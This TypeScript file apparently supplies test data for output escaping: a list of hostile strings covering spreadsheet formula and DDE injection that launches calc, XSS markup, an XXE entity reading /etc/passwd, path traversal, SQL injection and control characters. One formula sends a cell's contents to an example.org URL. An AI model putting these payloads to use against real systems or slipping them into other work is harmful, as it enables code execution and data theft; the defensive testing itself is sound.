/** Sets `ran` on the page (or says so in a dialog) where a browser takes it for a script. */
const SCRIPT = "globalThis.ran=1";

/** What a spreadsheet takes for a formula, an order to another program or a number that it is not. */
const FORMULAS = [
  ...["=1+1", "+1+1", "-1+1", "@SUM(1,1)", "＝1+1", "＋1+1", "－1+1", "＠SUM(1,1)"],
  ...["\t=1+1", "\r=1+1", "\n=1+1", "  =1+1", "\u00a0=1+1", "\u3000=1+1", "\u200b=1+1", "\ufeff=1+1"],
  ...["'=1+1", '"=1+1', '"",=1+1', ";=1+1", "|=1+1", "{=1+1}", "1+1=", "==1+1", "=-1", "=1+1,=2+2"],
  ...["=cmd|' /C calc'!A0", '=DDE("cmd","/C calc","a")', "@cmd|' /C calc'!A0", "=MSEXCEL|'\\..\\calc'!A0"],
  ...['=HYPERLINK("http://example.org/?x="&A1,"点击")', '=WEBSERVICE("http://example.org")'],
  ...['=IMPORTXML("http://example.org","//a")', '=IMAGE("http://example.org/a.png")', "=INDIRECT(A1)"],
  ...[
    "#REF!",
    "TRUE",
    "NaN",
    "Infinity",
    "1e309",
    "0x10",
    "1/2",
    "2020-01-01",
    "007",
    "_x003D_1+1",
    "_x000D_",
  ],
];

/** What a browser, a drawing or an office program takes for markup. */
const MARKUP = [
  `<script>${SCRIPT}</script>`,
  `</script><script>${SCRIPT}</script>`,
  `<img src=x onerror=${SCRIPT}>`,
  `"><img src=x onerror=${SCRIPT}>`,
  `'><img src=x onerror=${SCRIPT}>`,
  `<svg onload=${SCRIPT}>`,
  `<svg><script>${SCRIPT}</script></svg>`,
  `<iframe srcdoc="<script>parent.ran=1</script>"></iframe>`,
  `<iframe src="javascript:parent.ran=1"></iframe>`,
  `<a href="javascript:${SCRIPT}">点击</a>`,
  `<body onload=${SCRIPT}>`,
  `<input autofocus onfocus=${SCRIPT}>`,
  `<details open ontoggle=${SCRIPT}>`,
  `<object data="javascript:${SCRIPT}"></object>`,
  `<math><mtext></table><img src=x onerror=${SCRIPT}>`,
  `<style>*{display:none}</style>`,
  `<style>@import "http://example.org/a.css";</style>`,
  `<link rel=stylesheet href=http://example.org/a.css>`,
  `<base href=http://example.org/>`,
  `<meta http-equiv=refresh content="0;url=http://example.org">`,
  `<form action=http://example.org><button>提交</button></form>`,
  `</title><script>${SCRIPT}</script>`,
  `</td></tr></table><script>${SCRIPT}</script>`,
  `<!--`,
  `--><script>${SCRIPT}</script>`,
  `]]><script>${SCRIPT}</script>`,
  `<![CDATA[<script>${SCRIPT}</script>]]>`,
  `<?xml version="1.0"?>`,
  `<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>`,
  `&b;&lt;script&gt;&#60;script&#62;`,
  `<w:p><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\calc.exe</w:instrText></w:r></w:p>`,
  `</w:t></w:r><w:fldSimple w:instr="INCLUDETEXT"/>`,
  `</t></si><f>1+1</f>`,
  `</a:t></a:r>`,
];

/** What templates, patterns, paths, queries and readers of JSON take for something of their own. */
const PATTERNS = [
  ...[
    "{a}{b}{c}{d}{@value}",
    "{name|x}",
    "{{constructor}}",
    "${ran=1}",
    "`${ran=1}`",
    "%s%n%x",
    "$&$1$`",
    "\\u003cscript>",
  ],
  ...["__proto__", "constructor", "toString", "hasOwnProperty", "null", "undefined"],
  ...[
    "../../../../etc/passwd",
    "C:\\CON\\aux.txt",
    "file:///etc/passwd",
    "\\\\server\\share",
    "'; DROP TABLE plans; --",
  ],
  ...[
    "\u202egnp.exe",
    "\u2066隐\u2069",
    "a\u0000b",
    "\u0007\u001b[31m",
    "\ud800",
    "\u{1f1e8}\u{1f1f3}\u{1f469}\u200d\u{1f52c}",
  ],
  ...[
    "Z\u0351\u036b\u0343a\u0363l\u0348g\u0323o",
    "长".repeat(2_000),
    "\u0000".repeat(8),
    "𠮷野家 ≥ → ①",
    "first\r\nsecond",
  ],
];

/** Strings that were harmful somewhere once; none of them may do anything but be shown. */
export const HOSTILE_STRINGS: readonly string[] = [...FORMULAS, ...MARKUP, ...PATTERNS];
